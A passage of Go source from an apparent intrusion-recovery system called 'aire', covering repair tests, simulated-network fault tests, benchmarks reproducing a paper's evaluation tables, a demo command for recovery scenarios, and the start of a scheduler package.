		"action", "distribute", "target", "sheetA", "owner", DirectorUser, "token", DirectorToken)

	// The admin grants bob access via the master list; the script
	// distributes it.
	tb.MustCall("dir", setCell("acl:sheetA:bob", "rw", AdminUser, AdminToken))
	if resp := tb.Call("sheetA", wire.NewRequest("GET", "/acl").WithForm("user", "bob")); string(resp.Body) != "rw" {
		t.Fatalf("distribution failed: %+v", resp)
	}

	// Cancel the script installation itself.
	if _, err := dir.ApplyLocal(cancelAction(install.Header[wire.HdrRequestID])); err != nil {
		t.Fatal(err)
	}
	tb.Settle(20)

	// The master cell remains (the admin's write is legitimate), but the
	// distribution it triggered is unwound on sheetA.
	if resp := tb.Call("dir", getCell("acl:sheetA:bob")); string(resp.Body) != "rw" {
		t.Fatalf("master ACL cell lost: %+v", resp)
	}
	if resp := tb.Call("sheetA", wire.NewRequest("GET", "/acl").WithForm("user", "bob")); resp.Status != 404 {
		t.Fatalf("distribution not unwound: %d %q", resp.Status, resp.Body)
	}
}

// TestCreateScriptInPast is the paper's §3.1 motivating case for create:
// the administrator forgot to install the script before the ACL update;
// repair creates the installation request in the past, and re-execution of
// the later /set performs the distribution that should have happened.
func TestCreateScriptInPast(t *testing.T) {
	tb := NewTestbed()
	dir := tb.Add(newSheet("dir"), core.DefaultConfig())
	tb.Add(newSheet("sheetA"), core.DefaultConfig())
	tb.FreezeTime(1_380_000_000)

	seed := func(svc, path string, kv ...string) wire.Response {
		return tb.MustCall(svc, wire.NewRequest("POST", path).WithForm(kv...).
			WithHeader("X-Bootstrap", BootstrapToken))
	}
	for _, svc := range []string{"dir", "sheetA"} {
		seed(svc, "/seed/token", "user", DirectorUser, "value", DirectorToken)
		seed(svc, "/seed/token", "user", AdminUser, "value", AdminToken)
		seed(svc, "/seed/acl", "user", DirectorUser, "perms", "rwa")
	}
	lastSeed := seed("dir", "/seed/acl", "user", AdminUser, "perms", "rw")

	// The ACL update runs with no script installed: nothing distributed.
	set := tb.MustCall("dir", setCell("acl:sheetA:bob", "rw", AdminUser, AdminToken))
	if resp := tb.Call("sheetA", wire.NewRequest("GET", "/acl").WithForm("user", "bob")); resp.Status != 404 {
		t.Fatal("precondition: nothing should be distributed yet")
	}

	// Create the forgotten installation between the last seed and the set.
	installReq := wire.NewRequest("POST", "/seed/script").WithForm(
		"id", "dist-a", "trigger", "acl:sheetA:", "action", "distribute",
		"target", "sheetA", "owner", DirectorUser, "token", DirectorToken).
		WithHeader("X-Bootstrap", BootstrapToken)
	cre := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "create", "X-Bootstrap", BootstrapToken)
	cre.Form["before_id"] = lastSeed.Header[wire.HdrRequestID]
	cre.Form["after_id"] = set.Header[wire.HdrRequestID]
	cre.Body = installReq.Encode()
	if resp := tb.Call("dir", cre); !resp.OK() {
		t.Fatalf("create: %d %s", resp.Status, resp.Body)
	}
	tb.Settle(20)

	// The /set re-executed with the script present: distribution created on
	// sheetA "in the past".
	if resp := tb.Call("sheetA", wire.NewRequest("GET", "/acl").WithForm("user", "bob")); string(resp.Body) != "rw" {
		t.Fatalf("distribution not created by repair: %d %q", resp.Status, resp.Body)
	}
	_ = dir
}
