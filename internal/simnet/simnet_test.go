package simnet

import (
	"errors"
	"reflect"
	"sync"
	"testing"
	"time"

	"aire/internal/transport"
	"aire/internal/wire"
)

// countingPeer records every delivery it receives.
type countingPeer struct {
	mu    sync.Mutex
	paths []string
}

func (p *countingPeer) HandleWire(from string, req wire.Request) wire.Response {
	p.mu.Lock()
	p.paths = append(p.paths, req.Path)
	p.mu.Unlock()
	return wire.NewResponse(200, "ok")
}

func (p *countingPeer) count() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return len(p.paths)
}

func world() (*transport.Bus, *countingPeer) {
	bus := transport.NewBus()
	peer := &countingPeer{}
	bus.Register("b", peer)
	return bus, peer
}

func repairReq() wire.Request { return wire.NewRequest("POST", "/aire/repair") }

func TestNormalTrafficNeverFaulted(t *testing.T) {
	bus, peer := world()
	n := New(bus, 1, FaultPlan{Drop: 1})
	for i := 0; i < 50; i++ {
		if _, err := n.Call("a", "b", wire.NewRequest("POST", "/put")); err != nil {
			t.Fatalf("normal traffic faulted: %v", err)
		}
	}
	if peer.count() != 50 {
		t.Fatalf("peer saw %d normal calls, want 50", peer.count())
	}
}

func TestDropLosesCallBeforePeer(t *testing.T) {
	bus, peer := world()
	n := New(bus, 1, FaultPlan{Drop: 1})
	_, err := n.Call("a", "b", repairReq())
	if !errors.Is(err, transport.ErrUnavailable) {
		t.Fatalf("drop must look like an unavailable peer, got %v", err)
	}
	if peer.count() != 0 {
		t.Fatal("dropped call reached the peer")
	}
}

func TestDropResponseDeliversButFails(t *testing.T) {
	bus, peer := world()
	n := New(bus, 1, FaultPlan{DropResponse: 1})
	_, err := n.Call("a", "b", repairReq())
	if !errors.Is(err, transport.ErrUnavailable) {
		t.Fatalf("lost response must look like an unavailable peer, got %v", err)
	}
	if peer.count() != 1 {
		t.Fatalf("peer deliveries = %d, want 1 (applied despite lost response)", peer.count())
	}
}

func TestDuplicateDeliversTwice(t *testing.T) {
	bus, peer := world()
	n := New(bus, 1, FaultPlan{Duplicate: 1})
	resp, err := n.Call("a", "b", repairReq())
	if err != nil || resp.Status != 200 {
		t.Fatalf("duplicate must return the first response: %v %+v", err, resp)
	}
	if peer.count() != 2 {
		t.Fatalf("peer deliveries = %d, want 2", peer.count())
	}
}

func TestDelayHoldsUntilTick(t *testing.T) {
	bus, peer := world()
	n := New(bus, 1, FaultPlan{Delay: 1})
	if _, err := n.Call("a", "b", repairReq()); !errors.Is(err, transport.ErrUnavailable) {
		t.Fatalf("delayed call must fail now, got %v", err)
	}
	if peer.count() != 0 || n.HeldCount() != 1 {
		t.Fatalf("delayed call should be held: delivered=%d held=%d", peer.count(), n.HeldCount())
	}
	if got := n.Tick(); got != 1 {
		t.Fatalf("Tick delivered %d, want 1", got)
	}
	if peer.count() != 1 || n.HeldCount() != 0 {
		t.Fatalf("after Tick: delivered=%d held=%d", peer.count(), n.HeldCount())
	}
}

func TestPartitionBlocksOnlyCrossGroupRepairTraffic(t *testing.T) {
	bus, _ := world()
	c := &countingPeer{}
	bus.Register("c", c)
	n := New(bus, 1, FaultPlan{})
	n.Partition([]string{"a", "b"}, []string{"c"})

	if _, err := n.Call("a", "c", repairReq()); !errors.Is(err, transport.ErrUnavailable) {
		t.Fatalf("cross-partition repair call must fail, got %v", err)
	}
	if _, err := n.Call("a", "b", repairReq()); err != nil {
		t.Fatalf("same-group repair call failed: %v", err)
	}
	if _, err := n.Call("a", "c", wire.NewRequest("POST", "/put")); err != nil {
		t.Fatalf("normal traffic must cross partitions: %v", err)
	}
	n.Heal()
	if _, err := n.Call("a", "c", repairReq()); err != nil {
		t.Fatalf("healed fabric still failing: %v", err)
	}
	if got := n.Counts()[FaultPartition]; got != 1 {
		t.Fatalf("partition count = %d, want 1", got)
	}
}

// TestPartitionHoldsDelayedCalls: a call delayed before a partition starts
// must not leak across it on Tick — the partition is airtight until Heal.
func TestPartitionHoldsDelayedCalls(t *testing.T) {
	bus, peer := world()
	n := New(bus, 1, FaultPlan{Delay: 1})
	if _, err := n.Call("a", "b", repairReq()); !errors.Is(err, transport.ErrUnavailable) {
		t.Fatalf("delayed call must fail now, got %v", err)
	}
	n.Partition([]string{"a"}, []string{"b"})
	if got := n.Tick(); got != 0 || peer.count() != 0 || n.HeldCount() != 1 {
		t.Fatalf("held call leaked across partition: delivered=%d seen=%d held=%d", got, peer.count(), n.HeldCount())
	}
	n.Heal()
	if got := n.Tick(); got != 1 || peer.count() != 1 {
		t.Fatalf("held call not delivered after heal: delivered=%d seen=%d", got, peer.count())
	}
}

// TestSeedDeterminism: identical seeds and call sequences produce identical
// fault schedules; a different seed produces a different one.
func TestSeedDeterminism(t *testing.T) {
	run := func(seed int64) ([]string, map[string]int) {
		bus, _ := world()
		n := New(bus, seed, FaultPlan{Drop: 0.25, DropResponse: 0.25, Duplicate: 0.25, Delay: 0.25})
		for i := 0; i < 40; i++ {
			n.Call("a", "b", repairReq())
			if i%5 == 0 {
				n.Tick()
			}
		}
		n.Tick()
		return n.Trace(), n.Counts()
	}
	t1, c1 := run(7)
	t2, c2 := run(7)
	if !reflect.DeepEqual(t1, t2) || !reflect.DeepEqual(c1, c2) {
		t.Fatalf("same seed diverged:\n%v\n%v", t1, t2)
	}
	t3, _ := run(8)
	if reflect.DeepEqual(t1, t3) {
		t.Fatal("different seeds produced identical 40-call fault schedules")
	}
}

func TestClock(t *testing.T) {
	c := NewClock(1000)
	if got := c.Now(); !got.Equal(time.Unix(1000, 0)) {
		t.Fatalf("start = %v", got)
	}
	c.Advance(90 * time.Second)
	if got := c.Now(); !got.Equal(time.Unix(1090, 0)) {
		t.Fatalf("after advance = %v", got)
	}
}
