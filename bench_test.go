// Benchmarks regenerating the paper's evaluation (§8) plus ablations of
// Aire's design choices. One benchmark (or benchmark pair) per table:
//
//	Table 4 (normal-operation overhead):
//	    BenchmarkTable4ReadNoAire / BenchmarkTable4ReadAire
//	    BenchmarkTable4WriteNoAire / BenchmarkTable4WriteAire
//	  The Aire variants additionally report log-KB/req and db-KB/req,
//	  Table 4's storage columns.
//
//	Table 5 (repair performance):
//	    BenchmarkTable5Repair — one full attack + multi-service recovery
//	    per iteration; reports repaired/total requests and repair time as
//	    custom metrics.
//
//	Ablations (DESIGN.md E14):
//	    BenchmarkAblationPreciseReadCheck / BenchmarkAblationConservative
//	    BenchmarkAblationQueueCollapsing
//
// Run with: go test -bench . -benchmem
package aire_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/warp"
	"aire/internal/wire"
)

// table4Questions is the data-set size for the Table 4 workloads: the
// read-heavy page renders this many questions.
const table4Questions = 300

func newBench(b *testing.B, withAire bool) *harness.AskbotBench {
	b.Helper()
	ab, err := harness.NewAskbotBench(withAire)
	if err != nil {
		b.Fatal(err)
	}
	for i := 0; i < table4Questions; i++ {
		if err := ab.Write(); err != nil {
			b.Fatal(err)
		}
	}
	return ab
}

func benchTable4(b *testing.B, withAire bool, op func(*harness.AskbotBench) error) {
	ab := newBench(b, withAire)
	var logBytes, dbBytes, reqs int64
	if withAire {
		logBytes = ab.Ctrl.Svc.Log.AppBytes()
		dbBytes = ab.Ctrl.Svc.Store.VersionBytes()
		reqs = ab.Ctrl.Svc.Log.Samples()
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := op(ab); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	if withAire {
		n := ab.Ctrl.Svc.Log.Samples() - reqs
		if n > 0 {
			b.ReportMetric(float64(ab.Ctrl.Svc.Log.AppBytes()-logBytes)/float64(n)/1024, "log-KB/req")
			b.ReportMetric(float64(ab.Ctrl.Svc.Store.VersionBytes()-dbBytes)/float64(n)/1024, "db-KB/req")
		}
	}
}

func BenchmarkTable4ReadNoAire(b *testing.B) {
	benchTable4(b, false, (*harness.AskbotBench).Read)
}

func BenchmarkTable4ReadAire(b *testing.B) {
	benchTable4(b, true, (*harness.AskbotBench).Read)
}

func BenchmarkTable4WriteNoAire(b *testing.B) {
	benchTable4(b, false, (*harness.AskbotBench).Write)
}

func BenchmarkTable4WriteAire(b *testing.B) {
	benchTable4(b, true, (*harness.AskbotBench).Write)
}

// benchRepairScenario runs one full Table 5 cycle per iteration: stand up
// the three services, run the attack plus legitimate traffic, repair, and
// verify convergence.
func benchRepairScenario(b *testing.B, users, posts int, cfg core.Config) {
	var repairedReqs, totalReqs float64
	var repairNanos float64
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		s, err := harness.NewAskbotScenario(users, cfg)
		if err != nil {
			b.Fatal(err)
		}
		if err := s.PreRegister(users); err != nil {
			b.Fatal(err)
		}
		if err := s.RunAttack(); err != nil {
			b.Fatal(err)
		}
		if err := s.RunLegitTraffic(users, posts); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		if err := s.Repair(); err != nil {
			b.Fatal(err)
		}
		b.StopTimer()
		if problems := s.Verify(); len(problems) > 0 {
			b.Fatalf("repair incomplete: %v", problems)
		}
		rr, tr, _, _ := s.Askbot.RepairCounts()
		repairedReqs += float64(rr)
		totalReqs += float64(tr)
		repairNanos += float64(s.Askbot.RepairDuration().Nanoseconds())
		b.StartTimer()
	}
	b.ReportMetric(repairedReqs/float64(b.N), "repaired-reqs")
	b.ReportMetric(totalReqs/float64(b.N), "total-reqs")
	b.ReportMetric(repairNanos/float64(b.N)/1e6, "askbot-repair-ms")
}

// BenchmarkTable5Repair reproduces Table 5's repair run (scaled-down user
// count per iteration; use -users style sweeps via cmd/airebench for the
// full 100-user figure).
func BenchmarkTable5Repair(b *testing.B) {
	benchRepairScenario(b, 25, 5, core.DefaultConfig())
}

// BenchmarkAblationPreciseReadCheck and BenchmarkAblationConservative
// compare the value-based dependency check (default) against conservative
// key-level tracking on the workload where they differ: a request is
// replaced by a semantically identical one while many later requests read
// the touched key. The precise engine proves the readers saw the same
// value and skips them; the conservative engine re-executes every reader
// (see the repaired-reqs metric).
func BenchmarkAblationPreciseReadCheck(b *testing.B) {
	benchIdempotentReplace(b, core.DefaultConfig())
}

func BenchmarkAblationConservative(b *testing.B) {
	cfg := core.DefaultConfig()
	cfg.Engine.PreciseReadCheck = false
	benchIdempotentReplace(b, cfg)
}

func benchIdempotentReplace(b *testing.B, cfg core.Config) {
	const readers = 200
	var repaired float64
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		tb := harness.NewTestbed()
		a := tb.Add(&harness.KVApp{ServiceName: "a"}, cfg)
		target := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "hot", "val", "same"))
		for j := 0; j < readers; j++ {
			tb.MustCall("a", wire.NewRequest("GET", "/get").WithForm("key", "hot"))
		}
		b.StartTimer()
		res, err := a.ApplyLocal(warp.Action{
			Kind: warp.ReplaceReq, ReqID: target.Header[wire.HdrRequestID],
			NewReq: wire.NewRequest("POST", "/put").WithForm("key", "hot", "val", "same"),
		})
		if err != nil {
			b.Fatal(err)
		}
		repaired += float64(res.RepairedRequests)
	}
	b.ReportMetric(repaired/float64(b.N), "repaired-reqs")
}

// BenchmarkAblationQueueCollapsing measures §3.2's queue collapsing: many
// successive repairs of the same request while the peer is offline collapse
// to one message (vs. none without collapsing — approximated by counting
// messages queued).
func BenchmarkAblationQueueCollapsing(b *testing.B) {
	tb := harness.NewTestbed()
	a := tb.Add(&harness.KVApp{ServiceName: "a", Mirror: "b"}, core.DefaultConfig())
	tb.Add(&harness.KVApp{ServiceName: "b"}, core.DefaultConfig())
	first := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "v0"))
	tb.Settle(5)
	tb.SetOffline("b", true)
	reqID := first.Header[wire.HdrRequestID]

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := a.ApplyLocal(warp.Action{
			Kind: warp.ReplaceReq, ReqID: reqID,
			NewReq: wire.NewRequest("POST", "/put").WithForm("key", "x", "val", fmt.Sprintf("v%d", i+1)),
		}); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(a.QueueLen()), "queued-msgs") // stays 1 regardless of b.N
}

// Fan-out delivery benchmarks: one repairing hub service propagates repair
// to N peers while one peer is stalled — offline, and hanging callers for
// stallLatency before failing. The metric that matters is
// reachable-repair-ms: how long until every *healthy* peer is repaired.
//
// The serial baseline (synchronous Settle rounds, i.e. the old
// Flush-in-a-loop deployment mode) pays the stalled peer's timeout inline
// on every round, so healthy peers wait on it. The background pump delivers
// to distinct peers concurrently with per-peer backoff, so the reachable
// repair time stays flat — bounded by the healthy deliveries alone — no
// matter how slow the stalled peer is or how many peers ride in the queue
// behind it.
//
// Run with: go test -bench Fanout -benchtime 10x
const fanoutStallLatency = 10 * time.Millisecond

func benchFanout(b *testing.B, peers int, pump bool) {
	cfg := core.DefaultConfig()
	if pump {
		cfg.PumpWorkers = 8
		cfg.PumpInterval = time.Millisecond
		cfg.Backoff = core.Backoff{Base: 2 * time.Millisecond, Max: 20 * time.Millisecond, Factor: 2}
	}
	var reachableNanos float64
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		s := harness.NewFanoutScenario(peers, cfg)
		if err := s.RunAttack(); err != nil {
			b.Fatal(err)
		}
		s.StallPeer("peer1", fanoutStallLatency)
		b.StartTimer()
		if err := s.Repair(); err != nil {
			b.Fatal(err)
		}
		var elapsed time.Duration
		var ok bool
		if pump {
			stop, err := s.TB.StartPumps(context.Background())
			if err != nil {
				b.Fatal(err)
			}
			elapsed, ok = s.WaitReachableRepaired(10 * time.Second)
			stop()
		} else {
			elapsed, ok = s.SettleUntilReachableRepaired(core.DefaultConfig().MaxAttempts + 2)
		}
		b.StopTimer()
		if !ok {
			b.Fatalf("reachable peers not repaired (pump=%v peers=%d)", pump, peers)
		}
		reachableNanos += float64(elapsed.Nanoseconds())
	}
	b.ReportMetric(reachableNanos/float64(b.N)/1e6, "reachable-repair-ms")
}

func BenchmarkFanoutSerialFlush(b *testing.B) {
	for _, peers := range []int{4, 8, 16} {
		b.Run(fmt.Sprintf("peers=%d", peers), func(b *testing.B) {
			benchFanout(b, peers, false)
		})
	}
}

func BenchmarkFanoutPump(b *testing.B) {
	for _, peers := range []int{4, 8, 16} {
		b.Run(fmt.Sprintf("peers=%d", peers), func(b *testing.B) {
			benchFanout(b, peers, true)
		})
	}
}

// BenchmarkRepairScalingByLogSize shows how local repair cost grows along
// two axes (the paper's Table 5 claim is that cost tracks the *affected*
// slice, not the service size):
//
//   - readers=N: fixed attack, growing affected traffic (N readers of the
//     attacked key). Repair cost must grow — these are genuinely affected.
//   - unaffected=N: fixed attack and affected slice (10 readers), growing
//     *unrelated* records and objects. With the index-driven walk repair
//     time stays roughly flat; the retained pre-index walk
//     (BenchmarkRepairScalingLinearByLogSize) grows linearly, because it
//     re-checks every record after the attack.
func BenchmarkRepairScalingByLogSize(b *testing.B) {
	for _, readers := range []int{10, 50, 200} {
		b.Run(fmt.Sprintf("readers=%d", readers), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				tb := harness.NewTestbed()
				a := tb.Add(&harness.KVApp{ServiceName: "a"}, core.DefaultConfig())
				attack := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
				for j := 0; j < readers; j++ {
					tb.MustCall("a", wire.NewRequest("GET", "/get").WithForm("key", "x"))
				}
				b.StartTimer()
				if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
	for _, unaffected := range []int{0, 500, 2000} {
		b.Run(fmt.Sprintf("unaffected=%d", unaffected), func(b *testing.B) {
			benchRepairUnaffected(b, unaffected, false)
		})
	}
}

// BenchmarkRepairScalingLinearByLogSize is the unaffected-traffic dimension
// on the pre-index full-timeline walk — the before/after baseline for
// BENCH_4.json.
func BenchmarkRepairScalingLinearByLogSize(b *testing.B) {
	for _, unaffected := range []int{0, 500, 2000} {
		b.Run(fmt.Sprintf("unaffected=%d", unaffected), func(b *testing.B) {
			benchRepairUnaffected(b, unaffected, true)
		})
	}
}

// benchRepairUnaffected times one repair pass over a fixed affected slice
// (the attacked put plus 10 readers of its key) while `unaffected`
// unrelated put+get pairs pad the log and store. Each iteration replaces
// the attack with a fresh value, re-executing exactly the affected slice.
// The world is harness.NewScalingWorld — the same scenario MeasureRepairScaling
// times for BENCH_4.json.
func benchRepairUnaffected(b *testing.B, unaffected int, linear bool) {
	b.Helper()
	a, reqID := harness.NewScalingWorld(10, unaffected, linear)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := a.ApplyLocal(warp.Action{
			Kind: warp.ReplaceReq, ReqID: reqID,
			NewReq: wire.NewRequest("POST", "/put").WithForm("key", "x", "val", fmt.Sprintf("v%d", i)),
		}); err != nil {
			b.Fatal(err)
		}
	}
}
