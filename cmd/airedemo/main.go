// Command airedemo runs the paper's four intrusion-recovery scenarios
// (§7.1) end to end and reports what was attacked, what was repaired, and
// what was preserved.
//
// Usage:
//
//	airedemo -scenario askbot|acl|worldwritable|sync|partial|all [-users N]
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"aire/internal/core"
	"aire/internal/harness"
)

func main() {
	scenario := flag.String("scenario", "all", "scenario to run: askbot, acl, worldwritable, sync, partial, all")
	users := flag.Int("users", 10, "number of legitimate users (askbot scenario)")
	flag.Parse()

	run := func(name string, fn func() error) {
		fmt.Printf("==== scenario: %s ====\n", name)
		if err := fn(); err != nil {
			log.Fatalf("%s: %v", name, err)
		}
		fmt.Println()
	}

	switch *scenario {
	case "askbot":
		run("askbot", func() error { return askbotDemo(*users) })
	case "acl":
		run("acl", aclDemo)
	case "worldwritable":
		run("worldwritable", worldWritableDemo)
	case "sync":
		run("sync", syncDemo)
	case "partial":
		run("partial", partialDemo)
	case "all":
		run("askbot (Figure 4)", func() error { return askbotDemo(*users) })
		run("acl / lax permissions (Figure 5)", aclDemo)
		run("worldwritable directory", worldWritableDemo)
		run("corrupt data sync", syncDemo)
		run("partial repair (offline peer)", partialDemo)
	default:
		fmt.Fprintf(os.Stderr, "unknown scenario %q\n", *scenario)
		os.Exit(2)
	}
}

func askbotDemo(users int) error {
	s, err := harness.NewAskbotScenario(users, core.DefaultConfig())
	if err != nil {
		return err
	}
	if err := s.RunAttack(); err != nil {
		return err
	}
	if err := s.RunLegitTraffic(users, 3); err != nil {
		return err
	}
	fmt.Printf("attack: misconfig %s; attacker posted %s; crosspost %s\n",
		s.ConfigReqID, s.AttackQuestionID, s.AttackPasteID)
	if err := s.Repair(); err != nil {
		return err
	}
	if problems := s.Verify(); len(problems) > 0 {
		return fmt.Errorf("verify: %v", problems)
	}
	for _, svc := range []string{"oauth", "askbot", "dpaste"} {
		ctrl := s.TB.Ctrls[svc]
		rr, tr, ro, to := ctrl.RepairCounts()
		fmt.Printf("  %-7s repaired %4d/%4d requests, %5d/%6d model ops, repair time %v\n",
			svc, rr, tr, ro, to, ctrl.RepairDuration())
	}
	fmt.Println("attack fully undone; legitimate state preserved")
	return nil
}

func sheetDemo(withSync bool, attack func(*harness.SheetScenario) error) error {
	s := harness.NewSheetScenario(withSync, core.DefaultConfig())
	s.RunLegitTraffic()
	if err := attack(s); err != nil {
		return err
	}
	if err := s.Repair(); err != nil {
		return err
	}
	if problems := s.Verify(); len(problems) > 0 {
		return fmt.Errorf("verify: %v", problems)
	}
	for _, svc := range []string{"dir", "sheetA", "sheetB"} {
		ctrl := s.TB.Ctrls[svc]
		rr, tr, _, _ := ctrl.RepairCounts()
		fmt.Printf("  %-7s repaired %d/%d requests\n", svc, rr, tr)
	}
	fmt.Println("attack fully undone; legitimate state preserved")
	return nil
}

func aclDemo() error {
	return sheetDemo(false, func(s *harness.SheetScenario) error { return s.RunLaxPermissionAttack() })
}

func worldWritableDemo() error {
	return sheetDemo(false, func(s *harness.SheetScenario) error { return s.RunWorldWritableAttack() })
}

func syncDemo() error {
	return sheetDemo(true, func(s *harness.SheetScenario) error { return s.RunCorruptSyncAttack() })
}

func partialDemo() error {
	s := harness.NewSheetScenario(false, core.DefaultConfig())
	s.RunLegitTraffic()
	if err := s.RunLaxPermissionAttack(); err != nil {
		return err
	}
	s.TB.SetOffline("sheetB", true)
	if err := s.Repair(); err != nil {
		return err
	}
	fmt.Printf("  B offline: A repaired immediately, %d message(s) queued\n", s.TB.QueuedMessages())
	s.TB.SetOffline("sheetB", false)
	s.TB.Settle(20)
	if problems := s.Verify(); len(problems) > 0 {
		return fmt.Errorf("verify: %v", problems)
	}
	fmt.Println("  B online: queued repair delivered; all services clean")
	return nil
}
