package persist_test

import (
	"os"
	"path/filepath"
	"sync"
	"testing"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/persist"
	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

// lossyCaller wraps the bus from the sender's side: the first /aire/repair
// call is delivered but its response is dropped (the at-least-once hazard
// — the peer applied the repair, the sender doesn't know).
type lossyCaller struct {
	bus  *transport.Bus
	lost int
}

func (lc *lossyCaller) Call(from, to string, req wire.Request) (wire.Response, error) {
	resp, err := lc.bus.Call(from, to, req)
	if err == nil && req.Path == "/aire/repair" && lc.lost == 0 {
		lc.lost++
		return wire.Response{}, transport.ErrUnavailable
	}
	return resp, err
}

// carrierRecorder wraps a service's handler, recording the repair-plane
// carriers that reach it.
type carrierRecorder struct {
	inner transport.Handler

	mu       sync.Mutex
	carriers []wire.Request
}

func (cr *carrierRecorder) HandleWire(from string, req wire.Request) wire.Response {
	if req.Path == "/aire/repair" {
		cr.mu.Lock()
		cr.carriers = append(cr.carriers, req.Clone())
		cr.mu.Unlock()
	}
	return cr.inner.HandleWire(from, req)
}

func (cr *carrierRecorder) last(t *testing.T) wire.Request {
	t.Helper()
	cr.mu.Lock()
	defer cr.mu.Unlock()
	if len(cr.carriers) == 0 {
		t.Fatal("no repair carrier recorded")
	}
	return cr.carriers[len(cr.carriers)-1]
}

// TestRestoreInboxDedupsRedelivery is the receive side of the crash-restart
// durability story (the counterpart of TestRestoreResumesPumpExactlyOnce):
// a peer applies a repair whose response is lost, crash-restarts from an
// internal/persist snapshot mid-redelivery, and the sender's retry must be
// re-acknowledged from the restored dedup inbox — not re-applied.
func TestRestoreInboxDedupsRedelivery(t *testing.T) {
	bus := transport.NewBus()
	lossy := &lossyCaller{bus: bus}
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, lossy, core.DefaultConfig())
	bus.Register("a", a)
	b := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, core.DefaultConfig())
	rec := &carrierRecorder{inner: b}
	bus.Register("b", rec)

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attack := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))

	// The repair reaches b — who applies it — but the response is lost, so
	// a still holds the message queued for redelivery.
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	a.Flush()
	if got := b.Stats().RepairsRun; got != 1 {
		t.Fatalf("b applied %d repairs before the crash, want 1", got)
	}
	if a.QueueLen() != 1 {
		t.Fatalf("a's queue = %d, want 1 (response was lost)", a.QueueLen())
	}

	// b crashes mid-redelivery: snapshot to disk, discard, restore fresh.
	path := filepath.Join(t.TempDir(), "b.snap")
	if err := persist.SaveFile(b, path); err != nil {
		t.Fatal(err)
	}
	b2 := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, core.DefaultConfig())
	bus.Register("b", b2)
	if err := persist.LoadFile(b2, path); err != nil {
		t.Fatal(err)
	}

	// The sender retries. The restored inbox must re-acknowledge the
	// delivery without re-applying the repair.
	a.Flush()
	if a.QueueLen() != 0 {
		t.Fatalf("redelivery not acknowledged: %d queued, pending=%+v", a.QueueLen(), a.Pending())
	}
	st := b2.Stats()
	if st.RepairsRun != 0 {
		t.Fatalf("restored b re-applied the repair %d time(s); the persisted inbox should have deduplicated it", st.RepairsRun)
	}
	if st.DupDeliveries != 1 {
		t.Fatalf("restored b recorded %d duplicate deliveries, want 1", st.DupDeliveries)
	}
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b after restore = %q, want %q", got, "good")
	}

	// Control: strip the inbox from the same snapshot and the identical
	// redelivery re-applies — the persisted inbox is what carries
	// exactly-once across the crash.
	sf, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer sf.Close()
	f, err := persist.Read(sf)
	if err != nil {
		t.Fatal(err)
	}
	f.Inbox = nil
	b3 := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, core.DefaultConfig())
	if err := persist.Apply(b3, f); err != nil {
		t.Fatal(err)
	}
	resp := b3.HandleWire("a", rec.last(t))
	if !resp.OK() {
		t.Fatalf("replayed redelivery: %+v", resp)
	}
	if got := b3.Stats().RepairsRun; got != 1 {
		t.Fatalf("without the persisted inbox the redelivery should re-apply (RepairsRun=%d, want 1)", got)
	}
}
