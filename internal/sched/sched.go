// Package sched abstracts the concurrency substrate the background repair
// pump runs on, so the same pump code drives two very different worlds:
//
//   - Production (this package's Goroutines implementation): real
//     goroutines, buffered-channel semaphores, sync.WaitGroup, and a
//     time.Ticker pacer — exactly the machinery the pump used before the
//     abstraction existed. Yield is a no-op; the Go runtime preempts.
//
//   - Simulation (internal/dsched): cooperative tasks multiplexed one at a
//     time by a seeded scheduler that picks the next runnable task at every
//     yield point and elapses a virtual clock instead of sleeping. The
//     entire interleaving of pump loops, delivery workers, and the
//     simulated workload becomes a pure function of the seed, so a
//     schedule that exposes a concurrency bug replays exactly.
//
// The interface is deliberately the pump's vocabulary, not a general
// threading library: spawn a task, bound concurrent workers with a
// semaphore, wait a group of workers out, and pace periodic passes with a
// wakeable timer.
package sched

import (
	"context"
	"sync"
	"time"
)

// Scheduler is the concurrency substrate: production goroutines or a
// deterministic simulation scheduler.
type Scheduler interface {
	// Go starts a task. The name labels the task in simulation traces;
	// the production implementation ignores it.
	Go(name string, f func())
	// NewSem returns a counting semaphore with n slots.
	NewSem(n int) Sem
	// NewGroup returns an empty task group (WaitGroup semantics).
	NewGroup() Group
	// NewPacer returns a pacer that fires every interval of the
